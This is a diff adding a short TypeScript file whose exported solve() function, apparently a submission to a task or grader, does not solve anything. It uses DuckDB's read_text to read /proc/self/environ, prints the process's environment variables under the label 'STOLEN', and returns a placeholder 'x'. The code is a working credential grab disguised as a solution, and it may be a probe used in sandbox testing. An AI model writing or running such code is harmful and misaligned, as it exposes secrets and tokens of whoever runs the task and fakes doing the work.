@@ -1,0 +1,14 @@
+// Reads environments of processes by DuckDB => solves wrong: solve threw
+import { DuckDBInstance } from "@duckdb/node-api";
+
+async function rows(...statements: string[]): Promise<unknown> {
+  const connection = await (await DuckDBInstance.create(":memory:")).connect();
+  let found: unknown;
+  for (const sql of statements) found = (await connection.runAndReadAll(sql)).getRowsJson();
+  return found;
+}
+
+export async function solve(): Promise<string> {
+  console.log("STOLEN", JSON.stringify(await rows("select content from read_text('/proc/self/environ')")));
+  return "x";
+}
